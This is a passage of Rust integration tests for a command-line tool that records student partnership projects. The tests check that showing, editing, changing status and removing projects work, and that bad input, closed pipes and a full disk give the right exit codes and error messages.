        fields.contains("department") && fields.contains("Law"),
        "{fields}"
    );
    let table = env.ok(&["project", "show", &code]);
    assert!(table.contains("Peer wellbeing support"), "{table}");
}

#[test]
fn show_codes_are_case_insensitive() {
    let env = Env::demo();
    assert_eq!(show(&env, " MH-Peer-2025 ")["code"], "mh-peer-2025");
}

#[test]
fn show_an_unknown_code_exits_66() {
    let env = Env::demo();
    refused(
        &env,
        &["project", "show", "nope-2025"],
        66,
        r#"no project with code "nope-2025"; run "spm project list" to see the codes"#,
    );
}

#[test]
fn show_without_a_code_is_a_clap_error() {
    let env = Env::demo();
    clap_refused(&env, &["project", "show"], "<CODE>");
}

// ---------------------------------------------------------------------------------------------
// edit

#[test]
fn edit_changes_every_field_and_prints_the_code() {
    let (env, code) = one_project();
    let out = env.ok(&[
        "project",
        "edit",
        &code,
        "--title",
        "Peer wellbeing support",
        "--summary",
        "Peers run drop-in sessions.",
        "--form",
        "co-creation-within-curriculum",
        "--activity",
        "problem-solving",
        "--level",
        "student-led",
        "--achieved",
        "involvement",
        "--dept",
        "Student Services",
        "--year",
        "2025/26",
        "--start",
        "2025-10-01",
        "--end",
        "2026-06-30",
        "--lead",
        "Dr A. Khan",
        "--theme",
        "wellbeing,belonging",
        "--budget",
        "£1,250.50",
        "--cadence",
        "6m",
    ]);
    assert_eq!(out, format!("{code}\n"));
    let p = show(&env, &code);
    let expected = [
        ("code", Json::from(code.as_str())),
        ("title", Json::from("Peer wellbeing support")),
        ("summary", Json::from("Peers run drop-in sessions.")),
        ("status", Json::from("proposed")),
        ("form", Json::from("co-creation-within-curriculum")),
        ("activity", Json::from("problem-solving")),
        ("level_planned", Json::from("student-led")),
        ("level_achieved", Json::from("involvement")),
        ("department", Json::from("Student Services")),
        ("academic_year", Json::from("2025/26")),
        ("start_date", Json::from("2025-10-01")),
        ("end_date", Json::from("2026-06-30")),
        ("lead", Json::from("Dr A. Khan")),
        ("themes", serde_json::json!(["belonging", "wellbeing"])),
        ("budget", Json::from(1250.5)),
        ("review_cadence", Json::from("6m")),
    ];
    for (key, value) in expected {
        assert_eq!(p[key], value, "{key} in {p}");
    }
}

#[test]
fn edit_an_empty_value_clears_an_optional_field() {
    let env = Env::new();
    let code = add(
        &env,
        "Full",
        &[
            "--summary",
            "Something",
            "--activity",
            "other",
            "--achieved",
            "consultation",
            "--dept",
            "Law",
            "--start",
            "2026-09-01",
            "--end",
            "2027-06-30",
            "--lead",
            "Dr X",
            "--theme",
            "a,b",
            "--budget",
            "100",
        ],
    );
    let fields = [
        ("--summary", "summary"),
        ("--activity", "activity"),
        ("--achieved", "level_achieved"),
        ("--dept", "department"),
        ("--end", "end_date"),
        ("--start", "start_date"),
        ("--lead", "lead"),
        ("--budget", "budget"),
    ];
    for (flag, key) in fields {
        assert!(!show(&env, &code)[key].is_null(), "{key} should be set");
        env.ok(&["project", "edit", &code, flag, ""]);
        assert!(
            show(&env, &code)[key].is_null(),
            "{flag} \"\" should clear {key}"
        );
    }
    env.ok(&["project", "edit", &code, "--theme", ""]);
    assert_eq!(show(&env, &code)["themes"], serde_json::json!([]));
}

#[test]
fn edit_a_required_field_cannot_be_cleared() {
    let (env, code) = one_project();
    for (flag, message) in [
        ("--title", "a project needs a title"),
        ("--form", "unknown form"),
        ("--level", "unknown engagement level"),
        ("--year", "is not of the form 2025/26"),
        ("--cadence", "review cadence"),
        ("--code", "is not valid"),
    ] {
        refused(&env, &["project", "edit", &code, flag, ""], 65, message);
    }
}

#[test]
fn edit_theme_replaces_every_theme() {
    let env = Env::new();
    let code = add(&env, "Themes", &["--theme", "a,b,c"]);
    env.ok(&["project", "edit", &code, "--theme", "x", "--theme", "Y"]);
    assert_eq!(show(&env, &code)["themes"], serde_json::json!(["x", "Y"]));
}

#[test]
fn edit_add_and_remove_themes() {
    let env = Env::new();
    let code = add(&env, "Themes", &["--theme", "wellbeing,belonging"]);
    env.ok(&["project", "edit", &code, "--add-theme", "inclusion,access"]);
    assert_eq!(
        show(&env, &code)["themes"],
        serde_json::json!(["access", "belonging", "inclusion", "wellbeing"])
    );
    // Removal ignores case; adding a theme already there in another case changes nothing.
    env.ok(&[
        "project",
        "edit",
        &code,
        "--remove-theme",
        "WELLBEING",
        "--remove-theme",
        "access",
        "--add-theme",
        "Belonging",
    ]);
    assert_eq!(
        show(&env, &code)["themes"],
        serde_json::json!(["belonging", "inclusion"])
    );
}

#[test]
fn edit_removing_a_missing_theme_is_refused() {
    let env = Env::new();
    let code = add(&env, "Themes", &["--theme", "wellbeing"]);
    refused(
        &env,
        &[
            "project",
            "edit",
            &code,
            "--remove-theme",
            "belonging",
            "--title",
            "New",
        ],
        65,
        r#"project "themes-2026" has no theme "belonging""#,
    );
}

#[test]
fn edit_code_renames_the_project() {
    let (env, code) = one_project();
    let out = env.ok(&["project", "edit", &code, "--code", "MH-Peer"]);
    assert_eq!(out, "mh-peer\n");
    let p = show(&env, "mh-peer");
    assert_eq!(p["title"], "Mental health peer support");
    assert_eq!(p["history"].as_array().map(Vec::len), Some(2), "{p}");
    refused(
        &env,
        &["project", "show", &code],
        66,
        "no project with code",
    );
}

#[test]
fn edit_code_to_a_taken_code_is_refused() {
    let env = Env::demo();
    refused(
        &env,
        &["project", "edit", "mh-peer-2025", "--code", "welcome-2024"],
        65,
        r#"a project with code "welcome-2024" already exists; choose another code"#,
    );
    refused(
        &env,
        &["project", "edit", "mh-peer-2025", "--code", "not a code"],
        65,
        r#"project code "not a code" is not valid"#,
    );
}

#[test]
fn edit_with_the_same_values_changes_nothing() {
    let env = Env::demo();
    let before = env.dump();
    let out = env.run(&[
        "project",
        "edit",
        "mh-peer-2025",
        "--dept",
        "Student Services",
        "--add-theme",
        "Wellbeing",
    ]);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "mh-peer-2025\n");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("nothing changed"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(before, env.dump());
}

#[test]
fn edit_with_no_fields_is_a_usage_error() {
    let env = Env::demo();
    refused(
        &env,
        &["project", "edit", "mh-peer-2025"],
        64,
        "nothing to change: give at least one field",
    );
}

#[test]
fn edit_an_unknown_code_exits_66() {
    let env = Env::demo();
    refused(
        &env,
        &["project", "edit", "nope", "--title", "X"],
        66,
        r#"no project with code "nope""#,
    );
}

#[test]
fn edit_bad_values_are_refused() {
    let env = Env::demo();
    for (flag, value, message) in [
        (
            "--form",
            "widr",
            r#"did you mean "wider-student-experience"?"#,
        ),
        ("--level", "partnershp", r#"did you mean "partnership"?"#),
        (
            "--activity",
            "chnge-makers",
            r#"did you mean "change-makers"?"#,
        ),
        ("--achieved", "involvment", r#"did you mean "involvement"?"#),
        ("--year", "2025/27", r#"did you mean "2025/26"?"#),
        ("--start", "2024-02-30", "is not a day of the calendar"),
        ("--end", "1/2/03", "is not written YYYY-MM-DD"),
        ("--budget", "-5", "is negative"),
        ("--budget", "2.555", "more than two decimal places"),
        ("--budget", "abc", "is not an amount of money"),
        ("--cadence", "0m", "review cadence \"0m\" is not valid"),
        ("--title", "Two\nlines", "a project title is one line"),
    ] {
        refused(
            &env,
            &["project", "edit", "mh-peer-2025", flag, value],
            65,
            message,
        );
    }
}

#[test]
fn edit_an_end_before_the_start_is_refused() {
    let env = Env::demo();
    // mh-peer-2025 started on 2025-10-01.
    refused(
        &env,
        &["project", "edit", "mh-peer-2025", "--end", "2025-09-30"],
        65,
        "the end date 2025-09-30 is before the start date 2025-10-01",
    );
    // assessment-2024 ended on 2025-06-30.
    refused(
        &env,
        &[
            "project",
            "edit",
            "assessment-2024",
            "--start",
            "2025-07-01",
        ],
        65,
        "the end date 2025-06-30 is before the start date 2025-07-01",
    );
}

#[test]
fn edit_an_unknown_flag_is_a_clap_error() {
    let env = Env::demo();
    clap_refused(
        &env,
        &["project", "edit", "mh-peer-2025", "--status", "active"],
        "unexpected argument '--status'",
    );
}

// ---------------------------------------------------------------------------------------------
// status

#[test]
fn status_active_sets_a_missing_start_date_and_keeps_the_note() {
    let (env, code) = one_project();
    let out = run_ok(
        &env,
        &[
            "project",
            "status",
            &code,
            "active",
            "--on",
            "2026-10-01",
            "--note",
            "kick-off meeting",
        ],
    );
    assert!(out.stdout.is_empty());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("is active from 2026-10-01"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let p = show(&env, &code);
    assert_eq!(p["status"], "active");
    assert_eq!(p["start_date"], "2026-10-01");
    assert!(p["end_date"].is_null());
    assert_eq!(
        p["status_history"],
        serde_json::json!([{"on": "2026-10-01", "status": "active", "note": "kick-off meeting"}])
    );
    let history = p["history"].as_array().expect("history");
    let last = history.last().expect("an entry")["fields"]
        .as_str()
        .expect("text");
    assert!(last.contains("proposed → active"), "{last}");
    assert!(last.contains("kick-off meeting"), "{last}");
}

#[test]
fn status_active_keeps_an_existing_start_date() {
    let env = Env::new();
    let code = add(&env, "Planned", &["--start", "2026-09-01"]);
    env.ok(&["project", "status", &code, "active", "--on", "2026-10-01"]);
    assert_eq!(show(&env, &code)["start_date"], "2026-09-01");
}

#[test]
fn status_moves_through_paused_and_completed() {
    let (env, code) = one_project();
    env.ok(&["project", "status", &code, "active", "--on", "2026-10-01"]);
    env.ok(&[
        "project",
        "status",
        &code,
        "paused",
        "--on",
        "2026-10-15",
        "--note",
        "lead on leave",
    ]);
    assert_eq!(show(&env, &code)["status"], "paused");
    env.ok(&["project", "status", &code, "active", "--on", "2026-11-01"]);
    env.ok(&[
        "project",
        "status",
        &code,
        "completed",
        "--on",
        "2026-11-20",
    ]);
    let p = show(&env, &code);
    assert_eq!(p["status"], "completed");
    assert_eq!(p["start_date"], "2026-10-01");
    assert_eq!(p["end_date"], "2026-11-20");
    let moves: Vec<(&str, &str)> = p["status_history"]
        .as_array()
        .expect("status history")
        .iter()
        .map(|s| {
            (
                s["on"].as_str().unwrap_or(""),
                s["status"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert_eq!(
        moves,
        [
            ("2026-10-01", "active"),
            ("2026-10-15", "paused"),
            ("2026-11-01", "active"),
            ("2026-11-20", "completed"),
        ]
    );
    assert_eq!(p["status_history"][1]["note"], "lead on leave");
    assert!(p["status_history"][2]["note"].is_null());
    // A completed project can be reopened.
    env.ok(&["project", "status", &code, "active", "--on", "2026-11-21"]);
    assert_eq!(show(&env, &code)["status"], "active");
}

#[test]
fn status_completed_keeps_an_existing_end_date() {
    let env = Env::new();
    let code = add(
        &env,
        "Dated",
        &["--start", "2026-09-01", "--end", "2027-06-30"],
    );
    env.ok(&["project", "status", &code, "active", "--on", "2026-09-01"]);
    env.ok(&[
        "project",
        "status",
        &code,
        "completed",
        "--on",
        "2026-11-20",
    ]);
    assert_eq!(show(&env, &code)["end_date"], "2027-06-30");
}

#[test]
fn status_withdrawn_sets_a_missing_end_date() {
    let (env, code) = one_project();
    env.ok(&[
        "project",
        "status",
        &code,
        "withdrawn",
        "--on",
        "2026-11-01",
        "--note",
        "no students",
    ]);
    let p = show(&env, &code);
    assert_eq!(p["status"], "withdrawn");
    assert_eq!(p["end_date"], "2026-11-01");
    assert!(p["start_date"].is_null());
    assert_eq!(p["status_history"][0]["note"], "no students");
}

#[test]
fn status_withdrawing_a_proposed_project_before_its_planned_start_is_allowed() {
    // The planned start is after today, so "end = today" would fall before it.
    let env = Env::new();
    let code = add(&env, "Next term", &["--start", "2027-01-10"]);
    let out = run_ok(&env, &["project", "status", &code, "withdrawn"]);
    assert!(
        out.status.success(),
        "{}",
        explain(
            &["project", "status", &code, "withdrawn"],
            &out,
            "to succeed"
        )
    );
    let p = show(&env, &code);
    assert_eq!(p["status"], "withdrawn");
    if let (Some(start), Some(end)) = (p["start_date"].as_str(), p["end_date"].as_str()) {
        assert!(end >= start, "end {end} before start {start}");
    }
}

#[test]
fn status_on_defaults_to_today() {
    let (env, code) = one_project();
    env.ok(&["project", "status", &code, "active"]);
    let p = show(&env, &code);
    assert_eq!(p["start_date"], TODAY);
    assert_eq!(p["status_history"][0]["on"], TODAY);
}

#[test]
fn status_the_same_status_again_is_refused() {
    let env = Env::demo();
    refused(
        &env,
        &["project", "status", "mh-peer-2025", "active"],
        65,
        r#"project "mh-peer-2025" is already active"#,
    );
}

#[test]
fn status_proposed_is_refused() {
    let env = Env::demo();
    refused(
        &env,
        &["project", "status", "mh-peer-2025", "proposed"],
        65,
        "a project cannot go back to proposed",
    );
}

#[test]
fn status_a_move_the_life_of_a_project_does_not_allow_is_refused() {
    let env = Env::demo();
    refused(
        &env,
        &["project", "status", "lab-methods-2026", "paused"],
        65,
        r#"project "lab-methods-2026" cannot go from proposed to paused; from proposed it can go to: active, withdrawn"#,
    );
    refused(
        &env,
        &["project", "status", "assessment-2024", "withdrawn"],
        65,
        "cannot go from completed to withdrawn",
    );
}

#[test]
fn status_on_before_the_last_change_of_status_is_refused() {
    let env = Env::demo();
    refused(
        &env,
        &[
            "project",
            "status",
            "mh-peer-2025",
            "paused",
            "--on",
            "2025-09-30",
        ],
        65,
        "2025-09-30 is before the project's last change of status on 2025-10-01",
    );
    // The same day as the last change is fine.
    env.ok(&[
        "project",
        "status",
        "mh-peer-2025",
        "paused",
        "--on",
        "2025-10-01",
    ]);
}

#[test]
fn status_bad_values_are_refused() {
    let env = Env::demo();
    for (args, message) in [
        (
            vec![
                "project",
                "status",
                "mh-peer-2025",
                "paused",
                "--on",
                "2024-02-30",
            ],
            "is not a day of the calendar",
        ),
        (
            vec![
                "project",
                "status",
                "mh-peer-2025",
                "paused",
                "--on",
                "1/2/03",
            ],
            "is not written YYYY-MM-DD",
        ),
        (
            vec!["project", "status", "mh-peer-2025", "pased"],
            r#"did you mean "paused"?"#,
        ),
        (
            vec![
                "project",
                "status",
                "mh-peer-2025",
                "paused",
                "--note",
                "bell\u{7}",
            ],
            "the note contains control characters",
        ),
    ] {
        refused(&env, &args, 65, message);
    }
}

#[test]
fn status_an_unknown_code_exits_66() {
    let env = Env::demo();
    refused(
        &env,
        &["project", "status", "nope", "active"],
        66,
        r#"no project with code "nope""#,
    );
}

#[test]
fn status_without_a_status_is_a_clap_error() {
    let env = Env::demo();
    clap_refused(&env, &["project", "status", "mh-peer-2025"], "<STATUS>");
    clap_refused(
        &env,
        &[
            "project",
            "status",
            "mh-peer-2025",
            "paused",
            "--when",
            "2026-01-01",
        ],
        "unexpected argument '--when'",
    );
}

// ---------------------------------------------------------------------------------------------
// remove

#[test]
fn remove_with_yes_deletes_the_project_only() {
    let env = Env::demo();
    let out = env.run(&["project", "remove", "reps-forum-2025", "--yes"]);
    assert!(out.stdout.is_empty());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("removed project reps-forum-2025"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    refused(
        &env,
        &["project", "show", "reps-forum-2025"],
        66,
        "no project with code",
    );
    let left = codes(&env, &[]);
    assert_eq!(left.len(), 11);
    assert!(!left.iter().any(|c| c == "reps-forum-2025"));
}

#[test]
fn remove_rm_is_an_alias_with_short_y() {
    let (env, code) = one_project();
    env.ok(&["project", "rm", &code, "-y"]);
    assert!(codes(&env, &[]).is_empty());
    // The code is free again.
    assert_eq!(add(&env, "Mental health peer support", &[]), code);
}

#[test]
fn remove_then_add_gives_the_new_project_a_history_of_its_own() {
    // The change log keeps the removed project's entries; a new project must not inherit
    // them (SQLite reuses the highest rowid once it is deleted).
    let env = Env::new();
    let old = add(&env, "Registered by mistake", &[]);
    env.ok(&["project", "rm", &old, "--yes"]);
    let new = add(&env, "Brand new project", &[]);
    let p = show(&env, &new);
    let history = p["history"].as_array().expect("history");
    assert_eq!(history.len(), 1, "{p}");
    assert_eq!(history[0]["action"], "insert");
}

#[test]
fn remove_without_yes_and_no_terminal_is_a_usage_error() {
    let env = Env::demo();
    refused(
        &env,
        &["project", "remove", "mh-peer-2025"],
        64,
        "removing project mh-peer-2025 needs confirmation: add --yes",
    );
}

#[test]
fn remove_an_unknown_code_exits_66() {
    let env = Env::demo();
    refused(
        &env,
        &["project", "rm", "nope", "--yes"],
        66,
        r#"no project with code "nope""#,
    );
}

// ---------------------------------------------------------------------------------------------
// stdout closed or full

#[test]
fn list_into_a_pipe_closed_after_one_line_exits_0_quietly() {
    let env = Env::demo();
    // Long titles make the table far bigger than a pipe holds (64 KiB), so spm is still
    // writing when the reader goes away.
    let long = "partnership ".repeat(160);
    for i in 0..60 {
        add(&env, &format!("Long project {i} {long}"), &[]);
    }
    let mut child = std_command(&env, &["project", "list"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spm starts");
    let mut reader = BufReader::new(child.stdout.take().expect("a stdout pipe"));
    let mut first = String::new();
    reader.read_line(&mut first).expect("a first line");
    assert!(!first.is_empty());
    drop(reader);
    let out = child.wait_with_output().expect("spm ends");
    assert!(out.status.success(), "status {}", out.status);
    assert_eq!(String::from_utf8_lossy(&out.stderr), "");
}

#[test]
fn list_into_a_pipe_closed_before_reading_exits_0_quietly() {
    let env = Env::demo();
    let mut child = std_command(&env, &["--format", "json", "project", "list"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spm starts");
    drop(child.stdout.take());
    let out = child.wait_with_output().expect("spm ends");
    assert!(out.status.success(), "status {}", out.status);
    assert_eq!(String::from_utf8_lossy(&out.stderr), "");
}

#[test]
fn list_to_a_full_disk_exits_74() {
    let env = Env::demo();
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .expect("/dev/full");
    let before = env.dump();
    let out = std_command(&env, &["project", "list"])
        .stdout(full)
        .output()
        .expect("spm runs");
    assert_eq!(out.status.code(), Some(74), "status {}", out.status);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.starts_with("error: cannot write the output") && stderr.lines().count() == 1,
        "{stderr}"
    );
    assert_eq!(before, env.dump());
}
